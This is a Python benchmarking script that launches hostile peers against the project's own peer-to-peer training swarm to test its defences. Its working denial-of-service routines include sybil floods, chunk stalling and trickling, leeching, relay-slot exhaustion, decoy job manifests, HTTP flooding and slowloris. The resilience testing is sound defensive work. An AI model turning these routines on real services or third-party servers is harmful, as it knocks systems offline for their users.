"""One hostile peer (or a crowd of them) for bench/attacks.py and the adversary tests.

Each attack is what a stranger could do with ``docs/protocol.md`` and our own
code: the attackers here are built from the node's classes, talking to the
swarm over real libp2p and HTTP. Run as its own process (bench/attacks.py
starts it under SCHED_IDLE: on a real swarm the attacker's CPU is its own
machine's, not the victims'). Prints one JSON line per ``--report-every-s``
with what it got (prompts, bans, requests answered), and runs until killed.

    python bench/attacker.py work_flood --bootstrap ADDR --data-dir DIR
"""

from __future__ import annotations

import argparse
import itertools
import json
import logging
import os
import sys
from collections.abc import Sequence
from pathlib import Path

import trio
from libp2p.peer.id import ID
from libp2p.peer.peerinfo import PeerInfo

ROOT = Path(__file__).resolve().parent.parent
sys.path.insert(0, str(ROOT))

from fakes import claim_everything  # noqa: E402
from libp2p.network.exceptions import SwarmException  # noqa: E402
from libp2p.relay.circuit_v2.protocol import PROTOCOL_ID as HOP_PROTOCOL  # noqa: E402
from libp2p.relay.circuit_v2.protocol_buffer import StatusCode  # noqa: E402

from echo_node.config import NodeConfig  # noqa: E402
from echo_node.node import Node  # noqa: E402
from protocol import codec, manifest  # noqa: E402
from protocol.broadcast.engine import BroadcastConfig, BroadcastEngine  # noqa: E402
from protocol.broadcast.requests import OK  # noqa: E402
from protocol.broadcast.state import PEER_ERRORS  # noqa: E402
from protocol.broadcast.store import VersionStore  # noqa: E402
from protocol.identity import Identity, load_or_create  # noqa: E402
from protocol.ids import JOB_DIRECTORY_KEY, manifest_keys  # noqa: E402
from protocol.messages import UNSIGNED, ErrorReply  # noqa: E402
from protocol.net.host import make_host, parse_peer_addr  # noqa: E402
from protocol.net.relay_server import reserve_once  # noqa: E402
from protocol.net.swarm import announce, connect_bootstrap, open_swarm  # noqa: E402
from protocol.rpc import RequestFailed, request  # noqa: E402
from protocol.wire import chunk, receipts, rollout, work  # noqa: E402
from protocol.wire.chunk import ChunkData, ChunkRequest  # noqa: E402
from protocol.wire.receipts import ReceiptQuery  # noqa: E402
from protocol.wire.rollout import Completion, Receipt, RolloutBatch, RolloutGroup  # noqa: E402
from protocol.wire.work import WorkAssignment, WorkRequest  # noqa: E402

LOOPBACK = "/ip4/127.0.0.1/tcp/0"
counts: dict[str, int] = {}


def count(what: str, n: int = 1) -> None:
    counts[what] = counts.get(what, 0) + n


def make_node(args: argparse.Namespace, i: int) -> Node:
    config = NodeConfig(
        bootstrap=[args.bootstrap],
        listen=[LOOPBACK],
        data_dir=args.data_dir / f"identity{i}",
        mdns=False,
        upnp=False,
        name=f"attacker{i}",
    )
    return Node(config, load_or_create(config.identity_path))


async def to_learner(node: Node, protocol: str, exchange, timeout_s: float = 30):  # type: ignore[no-untyped-def]
    """``exchange`` on a new ``protocol`` stream to the learner: its reply, or
    None (counted as failed) when the stream fails."""
    try:
        return await request(node.swarm.host, node.learner, protocol, exchange, timeout_s=timeout_s)
    except RequestFailed:
        count("failed")
        await trio.sleep(1)  # the learner refused the stream (rate limit) or left
        return None


async def work_reply(node: Node, max_prompts: int):  # type: ignore[no-untyped-def]
    """The learner's answer to one work request (None: the stream failed)."""
    req = WorkRequest(
        job_id=node.job_id,
        max_prompts=max_prompts,
        held_version=-1,
        backend="torch",
        dtype="f32",
        name=node.config.name,
        reachability="public",
        device="cpu",
        memory_mib=0,
        tokens_per_s=0.0,
    )
    return await to_learner(node, work.PROTOCOL, lambda stream: work.ask(stream, req), timeout_s=60)


async def ask(node: Node, max_prompts: int = 4) -> None:
    """One work request, never answered; counts what came back."""
    reply = await work_reply(node, max_prompts)
    if reply is None:
        return
    if isinstance(reply, WorkAssignment):
        count("prompts", len(reply.prompts))
    elif isinstance(reply, ErrorReply):
        count(f"error:{reply.code}")
        await trio.sleep(1)
    else:
        count("no_work")


async def work_flood(args: argparse.Namespace) -> None:
    """One identity keeping ``--in-flight`` work requests open, answering none."""
    node = make_node(args, 0)
    async with node.joined(), trio.open_nursery() as nursery:
        for _ in range(args.in_flight):
            nursery.start_soon(_forever, ask, node)
        await report_forever(args)


async def sybil_requests(args: argparse.Namespace) -> None:
    """``--identities`` fresh identities, each asking once a second, answering none."""
    async with trio.open_nursery() as nursery:
        for i in range(args.identities):
            nursery.start_soon(_sybil, make_node(args, i))
        await report_forever(args)


async def _sybil(node: Node) -> None:
    async with node.joined(), trio.open_nursery() as nursery:
        while True:
            nursery.start_soon(ask, node)
            await trio.sleep(1)


async def unanswered_prompts(args: argparse.Namespace) -> None:
    """One identity taking prompts one request at a time and never answering."""
    node = make_node(args, 0)
    async with node.joined(), trio.open_nursery() as nursery:
        nursery.start_soon(_forever, ask, node)
        await report_forever(args)


async def idle_members(args: argparse.Namespace) -> None:
    """The control, not an attack: ``--identities`` peers that join the swarm
    (bootstrap, DHT, the learner) and then ask for nothing. What they cost the
    honest nodes is what any peer's presence costs on this machine."""
    async with trio.open_nursery() as nursery:
        for i in range(args.identities):
            nursery.start_soon(_member, make_node(args, i))
        await report_forever(args)


async def _member(node: Node) -> None:
    async with node.joined():
        count("joined")
        await trio.sleep_forever()


async def _forever(fn, *args) -> None:  # type: ignore[no-untyped-def]
    while True:
        await fn(*args)


# --- broadcast -------------------------------------------------------------------


async def stalling_chunk_peers(args: argparse.Namespace) -> None:
    """``--identities`` peers that announce every chunk and never send one."""
    await _fake_holders(args, _stall)


async def trickling_chunk_peers(args: argparse.Namespace) -> None:
    """``--identities`` peers that announce every chunk of each version, send
    each requester one good chunk (so that it trusts them; fetched from the
    learner when asked, they download nothing else) and then answer every
    chunk request with one byte every ``--drip-s``, just inside the
    requesters' stall timer. (Downloading every version as a node does, the
    four took a third of this 2-core machine, a cost a real attacker pays on
    its own: what peers that download everything cost us is
    ``empty_have_leech``'s to show.)"""
    served: set[tuple[int, str]] = set()  # (trickler, requester): sent their one good chunk

    def answer(i: int):  # type: ignore[no-untyped-def]
        async def trickle(engine: BroadcastEngine, stream, req) -> None:  # type: ignore[no-untyped-def]
            if not isinstance(req, ChunkRequest):
                return await _serve_manifest(engine, stream, req)
            peer = stream.muxed_conn.peer_id.to_base58()
            m = engine.store.manifests.get(req.version)
            if m is None:
                return await _serve_manifest(engine, stream, req)  # unknown to it: the honest error
            if (i, peer) not in served and await _fetch_from_learner(engine, m, req.index):
                served.add((i, peer))
                count("good_chunks")
                return await _serve_manifest(engine, stream, req)
            count("trickled")
            junk = ChunkData(req.job_id, req.version, req.index, bytes(manifest.chunk_len(m, req.index)))

            async def drip(n: int) -> None:
                count("bytes_trickled")
                await trio.sleep(args.drip_s)

            try:
                await chunk.send_chunk(stream, junk, piece_bytes=1, before_piece=drip)
            except PEER_ERRORS:
                count("cut")  # the requester gave up on us

        return trickle

    async with trio.open_nursery() as nursery:
        for i in range(args.identities):
            nursery.start_soon(_fake_holder, make_node(args, i), answer(i))
        await report_forever(args)


async def _fetch_from_learner(engine: BroadcastEngine, m, idx: int) -> bool:  # type: ignore[no-untyped-def]
    """Chunk ``idx`` of ``m`` into ``engine``'s store, from the learner (asked
    twice: it serves a chunk it declined once)."""
    if idx in engine.store.chunks_held(m.version):
        return True
    for _ in range(2):
        try:
            outcome = await engine.requests.request(
                m,
                engine.learner_id,
                idx,
                10.0,
                guessed=False,
                is_neighbour=lambda p: True,
                announces=lambda *a: False,
                trusted=lambda p: True,
            )
        except PEER_ERRORS:
            return False
        if outcome == OK:
            return True
    return False


async def busy_flapping(args: argparse.Namespace) -> None:
    """``--identities`` peers that announce every chunk, answer every request
    with ``busy``, and re-announce themselves ready after each refusal."""
    await _fake_holders(args, _busy)


async def _stall(engine: BroadcastEngine, stream, req) -> None:  # type: ignore[no-untyped-def]
    if isinstance(req, ChunkRequest):
        count("stalled")
        await trio.sleep_forever()
    await _serve_manifest(engine, stream, req)


async def _busy(engine: BroadcastEngine, stream, req) -> None:  # type: ignore[no-untyped-def]
    if isinstance(req, ChunkRequest):
        count("busy")
        await chunk.send_reply(stream, ErrorReply(chunk.BUSY, "fetch it later or from another peer"))
        engine.state.poke_local()  # "ready again": a fresh Have to every neighbour
        return
    await _serve_manifest(engine, stream, req)


async def _serve_manifest(engine: BroadcastEngine, stream, req) -> None:  # type: ignore[no-untyped-def]
    await type(engine.server).answer(engine.server, stream, req)


async def _fake_holders(args: argparse.Namespace, answer) -> None:  # type: ignore[no-untyped-def]
    async with trio.open_nursery() as nursery:
        for i in range(args.identities):
            nursery.start_soon(_fake_holder, make_node(args, i), answer)
        await report_forever(args)


async def _fake_holder(node: Node, answer) -> None:  # type: ignore[no-untyped-def]
    """A broadcast peer that follows versions (so it knows each manifest) but
    downloads nothing, announces every chunk as soon as it knows the version,
    and answers chunk requests with ``answer``."""
    async with node.joined() as swarm, trio.open_nursery() as nursery:
        learner_id = node.learner.to_base58()
        store = VersionStore(node.config.weights_dir(node.job_id), learner_id=learner_id, keep=2)
        engine = BroadcastEngine(
            swarm, store, job_id=node.job_id, learner_id=learner_id, is_seed=False, config=BroadcastConfig()
        )

        async def download_nothing() -> None:  # it knows each manifest; that is all it needs
            await trio.sleep_forever()

        engine.haves.my_have = lambda: claim_everything(engine)
        engine.downloads.loop = download_nothing  # type: ignore[method-assign]
        engine.server.answer = lambda stream, req: answer(engine, stream, req)  # type: ignore[method-assign]
        await nursery.start(engine.run)
        while not engine.store.manifests:  # reported: a fake that follows no version is asked for nothing
            await trio.sleep(0.5)
        count("following")
        await trio.sleep_forever()


# --- the job directory ----------------------------------------------------------

# Model configs a decoy signs: sizes missing (what stopped every volunteer
# who joined without an invite: "model config: vocab_size = None"), not
# JSON, and a well-formed model far bigger than any volunteer holds.
DECOY_CONFIGS = (
    '{"model_type": "llama"}',
    "not a model config",
    json.dumps(
        {
            "model_type": "llama",
            "vocab_size": 128256,
            "hidden_size": 16384,
            "intermediate_size": 53248,
            "num_hidden_layers": 126,
            "num_attention_heads": 128,
            "num_key_value_heads": 8,
        }
    ),
)


async def decoy_jobs(args: argparse.Namespace) -> None:
    """``--identities`` strangers, each announcing a job in the DHT's job
    directory with a validly self-signed manifest whose model is junk
    (``DECOY_CONFIGS`` in turn), again every ``--report-every-s``."""
    async with trio.open_nursery() as nursery:
        for i in range(args.identities):
            nursery.start_soon(_decoy, args, i)
        await report_forever(args)


async def _decoy(args: argparse.Namespace, i: int) -> None:
    identity = load_or_create(args.data_dir / f"identity{i}" / "identity.key")
    signed, _ = manifest.build(
        identity,
        job_id=f"decoy{i}",
        version=0,
        parent_version=-1,
        task="reverse",
        model_config=DECOY_CONFIGS[i % len(DECOY_CONFIGS)],
        tokenizer_digest=bytes(32),
        weights=b"junk",
    )
    encoded = codec.encode(signed)
    async with open_swarm(identity, [LOOPBACK], server=True) as swarm:
        await connect_bootstrap(swarm, [args.bootstrap], 10)
        while True:
            await announce(swarm, JOB_DIRECTORY_KEY, 10)
            for key in manifest_keys(identity.peer_id_str):  # the legacy key too: older nodes read it
                with trio.move_on_after(10):
                    await swarm.dht.put_value(key, encoded)
            count("announced")
            await trio.sleep(args.report_every_s)


# --- the learner's ledger -----------------------------------------------------------


def _batch(node: Node, *, job_id: str, version: int, prompt_ids: Sequence[int]) -> RolloutBatch:
    """A signed batch of one-token completions (what is in it never gets checked)."""
    groups = tuple(RolloutGroup(pid, (Completion((1,), (-1.0,)),)) for pid in prompt_ids)
    unsigned = RolloutBatch(
        job_id=job_id,
        version=version,
        peer_id=node.me,
        nonce=os.urandom(16),
        backend="torch",
        dtype="f32",
        device="cpu",
        generate_ms=1,
        groups=groups,
        signature=UNSIGNED,
    )
    return node.identity.sign(unsigned)


async def _submit(node: Node, batch: RolloutBatch) -> None:
    reply = await to_learner(node, rollout.PROTOCOL, lambda s: rollout.submit(s, batch))
    if reply is None:
        return
    count(f"receipt:{reply.reason}" if isinstance(reply, Receipt) else f"error:{reply.code}")


async def wrong_job_spam(args: argparse.Namespace) -> None:
    """``--identities`` peers, each sending signed batches for another job on
    ``--in-flight`` streams as fast as the learner answers (each refused
    batch was a ledger row and never a strike)."""
    async with trio.open_nursery() as nursery:
        for i in range(args.identities):
            nursery.start_soon(_wrong_job, args, make_node(args, i))
        await report_forever(args)


async def _wrong_job(args: argparse.Namespace, node: Node) -> None:
    async with node.joined(), trio.open_nursery() as nursery:
        other_job = "not-" + node.job_id
        for _ in range(args.in_flight):
            nursery.start_soon(
                _forever, lambda: _submit(node, _batch(node, job_id=other_job, version=0, prompt_ids=[1]))
            )


async def receipt_flood(args: argparse.Namespace) -> None:
    """One identity asking for its first page of 500 receipts on
    ``--in-flight`` streams, over and over, while it earns up to
    ``--receipts`` receipts that come with no strike (batches for prompts it
    was given, at a version the learner does not hold:
    ``version_out_of_window``), so that its pages grow."""
    node = make_node(args, 0)
    async with node.joined(), trio.open_nursery() as nursery:
        for _ in range(2):  # the learner's default --max-work-requests
            nursery.start_soon(_earn_receipts, node, args.receipts)
        for _ in range(args.in_flight):
            nursery.start_soon(_forever, _page, node)
        await report_forever(args)


async def _earn_receipts(node: Node, n: int) -> None:
    while counts.get("receipt:version_out_of_window", 0) < n:
        await _earn_receipt(node)


async def _earn_receipt(node: Node) -> None:
    reply = await work_reply(node, 4)
    if not isinstance(reply, WorkAssignment):
        await trio.sleep(0.5)
        return
    ids = [p.prompt_id for p in reply.prompts]
    await _submit(node, _batch(node, job_id=node.job_id, version=reply.version + 1000, prompt_ids=ids))


async def _page(node: Node) -> None:
    query = ReceiptQuery(node.job_id, 0, receipts.MAX_PER_PAGE)
    page = await to_learner(node, receipts.PROTOCOL, lambda s: receipts.ask(s, query))
    if page is None:
        return
    if isinstance(page, ErrorReply):
        count(f"error:{page.code}")
        return
    count("pages")
    count("page_bytes", len(codec.encode(page)))


async def empty_have_leech(args: argparse.Namespace) -> None:
    """``--identities`` peers that follow every version, announce an empty Have
    and pull every chunk of the newest version from every neighbour (the
    learner and the honest nodes) over and over, on ``--lanes`` streams per
    neighbour; plus, with ``--rotate-s``, one more against the learner alone
    under a fresh identity every that many seconds. Nothing pulled is kept or
    passed on."""
    async with trio.open_nursery() as nursery:
        for i in range(args.identities):
            nursery.start_soon(_leecher, make_node(args, i), args, False)
        if args.rotate_s > 0:
            nursery.start_soon(_rotating_leecher, args)
        await report_forever(args)


async def _rotating_leecher(args: argparse.Namespace) -> None:
    for i in itertools.count(args.identities):
        with trio.move_on_after(args.rotate_s):
            await _leecher(make_node(args, i), args, True)
        count("identities_rotated")


async def _leecher(node: Node, args: argparse.Namespace, learner_only: bool) -> None:
    async with node.joined() as swarm, trio.open_nursery() as nursery:
        learner_id = node.learner.to_base58()
        store = VersionStore(node.config.weights_dir(node.job_id), learner_id=learner_id, keep=2)
        engine = BroadcastEngine(
            swarm, store, job_id=node.job_id, learner_id=learner_id, is_seed=False, config=BroadcastConfig()
        )
        pulling: set[str] = set()

        async def leech_neighbours() -> None:  # in place of downloading: it stores nothing, so its Have is empty
            while True:
                for peer in list(engine.neighbours):
                    if peer not in pulling and (peer == learner_id or not learner_only):
                        pulling.add(peer)
                        for _ in range(args.lanes):
                            nursery.start_soon(_pull_from, engine, peer, pulling)
                await trio.sleep(0.5)  # neighbours come and go with no event to await

        engine.downloads.loop = leech_neighbours  # type: ignore[method-assign]
        await nursery.start(engine.run)
        nursery.start_soon(engine.connect, PeerInfo(node.learner, []))  # the learner as a neighbour at once
        await trio.sleep_forever()


async def _pull_from(engine: BroadcastEngine, peer: str, pulling: set[str]) -> None:
    """Every chunk of the newest version ``engine`` knows, from ``peer``, again and again."""
    try:
        stream = await engine.swarm.host.new_stream(ID.from_base58(peer), [chunk.PROTOCOL])
        while True:
            m = engine.newest_wanted()
            if m is None:
                await engine.wait_progress()
                continue
            for idx in range(len(m.chunk_hashes)):
                reply = await chunk.ask_chunk(stream, ChunkRequest(engine.job_id, m.version, idx, ""))
                if isinstance(reply, ChunkData):
                    count("bytes_pulled", len(reply.data))
                    count("chunks_pulled")
                else:
                    count(f"error:{reply.code}")
                    await trio.sleep(0.05)  # busy or ask_others: ask again soon, as an eager leecher would
    except PEER_ERRORS:
        count("streams_lost")
    finally:
        pulling.discard(peer)


# --- sockets and HTTP ---------------------------------------------------------------


async def idle_sockets(args: argparse.Namespace) -> None:
    """``--sockets`` TCP connections to ``--target host:port`` that send nothing,
    each reopened as soon as the target closes it."""
    host, port = args.target.rsplit(":", 1)

    async def hold() -> None:
        while True:
            try:
                stream = await trio.open_tcp_stream(host, int(port))
            except OSError:
                count("refused")
                await trio.sleep(0.5)
                continue
            count("opened")
            async with stream:
                try:
                    while await stream.receive_some(65536):
                        pass  # whatever the target says; we never answer
                except trio.BrokenResourceError:
                    pass
            count("closed_by_target")

    async with trio.open_nursery() as nursery:
        for _ in range(args.sockets):
            nursery.start_soon(hold)
        await report_forever(args)


async def api_pollers(args: argparse.Namespace) -> None:
    """``--clients`` HTTP clients fetching the status API's pages flat out."""
    host, port = args.target.rsplit(":", 1)
    paths = ["/api/status", "/api/peers", "/metrics", "/api/history", "/api/ledger"]

    async def poll(i: int) -> None:
        n = i
        while True:
            path = paths[n % len(paths)]
            n += 1
            try:
                stream = await trio.open_tcp_stream(host, int(port))
                async with stream:
                    await stream.send_all(
                        f"GET {path} HTTP/1.1\r\nHost: {host}:{port}\r\nConnection: close\r\n\r\n".encode()
                    )
                    head = await stream.receive_some(65536)
                    while await stream.receive_some(65536):
                        pass
                count(head.split(b" ", 2)[1].decode() if head else "empty")
            except (OSError, trio.BrokenResourceError):
                count("failed")
                await trio.sleep(0.1)

    async with trio.open_nursery() as nursery:
        for i in range(args.clients):
            nursery.start_soon(poll, i)
        await report_forever(args)


async def api_slowloris(args: argparse.Namespace) -> None:
    """``--sockets`` HTTP connections, each sending its request a byte every few
    seconds (and reconnecting when the server gives up on it)."""
    host, port = args.target.rsplit(":", 1)
    request_bytes = f"GET /api/status HTTP/1.1\r\nHost: {host}:{port}\r\nX-Pad: {'a' * 200}\r\n".encode()

    async def drip() -> None:
        while True:
            try:
                stream = await trio.open_tcp_stream(host, int(port))
                count("connections")
                async with stream:
                    for b in request_bytes:
                        await stream.send_all(bytes([b]))
                        await trio.sleep(args.drip_s)
            except (OSError, trio.BrokenResourceError):
                count("dropped")
                await trio.sleep(0.2)

    async with trio.open_nursery() as nursery:
        for _ in range(args.sockets):
            nursery.start_soon(drip)
        await report_forever(args)


# --- the bootstrap's relay ---------------------------------------------------------


async def relay_exhaustion(args: argparse.Namespace) -> None:
    """``--identities`` fresh identities, ``--wave`` a second, each reserving a
    slot on the bootstrap's relay and staying connected to hold it; each also
    sends RESERVEs naming ``--naming`` made-up peer ids (a slot apiece on
    py-libp2p's relay as it was). ``tried`` counts the members done asking.
    Whether an honest peer still gets a slot is bench/relay_probe.py's to
    tell, from a process of its own."""
    relay = parse_peer_addr(args.bootstrap)

    async def ask(host, peer_field: bytes | None = None) -> StatusCode | None:  # type: ignore[no-untyped-def]
        try:
            with trio.fail_after(30):
                return await reserve_once(await host.new_stream(relay.peer_id, [HOP_PROTOCOL]), peer_field)
        except Exception:  # the relay reset or dropped the stream: counted, not fatal
            count("relay_errors")
            return None

    async def member() -> None:
        host = make_host(Identity.generate(), [])
        async with host.run([]):
            try:
                with trio.fail_after(30):
                    await host.connect(relay)
                status = await ask(host)
                count("crowd_reserved" if status == StatusCode.OK else "crowd_refused")
                for _ in range(args.naming):
                    status = await ask(host, Identity.generate().peer_id.to_bytes())
                    count("naming_others_granted" if status == StatusCode.OK else "naming_others_refused")
            except (OSError, trio.TooSlowError, SwarmException):
                count("connect_failed")
                return
            finally:
                count("tried")
            await trio.sleep_forever()  # holding the connection holds the slot

    async with trio.open_nursery() as nursery:
        nursery.start_soon(report_forever, args)
        for _ in range(args.identities):
            nursery.start_soon(member)
            await trio.sleep(1 / args.wave)


async def report_forever(args: argparse.Namespace) -> None:
    while True:
        await trio.sleep(args.report_every_s)
        print(json.dumps(counts), flush=True)


ATTACKS = {
    f.__name__: f
    for f in (
        work_flood,
        sybil_requests,
        unanswered_prompts,
        stalling_chunk_peers,
        trickling_chunk_peers,
        busy_flapping,
        empty_have_leech,
        idle_sockets,
        api_pollers,
        api_slowloris,
        idle_members,
        decoy_jobs,
        wrong_job_spam,
        receipt_flood,
        relay_exhaustion,
    )
}


def main() -> None:
    parser = argparse.ArgumentParser(description=__doc__, formatter_class=argparse.RawDescriptionHelpFormatter)
    parser.add_argument("attack", choices=sorted(ATTACKS))
    parser.add_argument("--bootstrap", default="", help="bootstrap multiaddr (peer attacks)")
    parser.add_argument("--target", default="", help="host:port (socket and HTTP attacks)")
    parser.add_argument("--data-dir", type=Path, default=Path("attacker"))
    parser.add_argument("--identities", type=int, default=8)
    parser.add_argument("--in-flight", type=int, default=16)
    parser.add_argument("--lanes", type=int, default=4, help="empty_have_leech: chunk streams per neighbour")
    parser.add_argument(
        "--rotate-s", type=float, default=0.0, help="empty_have_leech: a fresh identity against the learner this often"
    )
    parser.add_argument("--sockets", type=int, default=300)
    parser.add_argument("--clients", type=int, default=8)
    parser.add_argument("--drip-s", type=float, default=2.0)
    parser.add_argument("--receipts", type=int, default=200, help="receipts to earn before a receipt flood")
    parser.add_argument("--wave", type=float, default=10.0, help="relay: new identities a second")
    parser.add_argument("--naming", type=int, default=1, help="relay: RESERVEs naming made-up peers, per identity")
    parser.add_argument("--report-every-s", type=float, default=5.0)
    args = parser.parse_args()
    logging.basicConfig(level=logging.WARNING)
    try:
        trio.run(ATTACKS[args.attack], args)
    except KeyboardInterrupt:
        pass


if __name__ == "__main__":
    main()
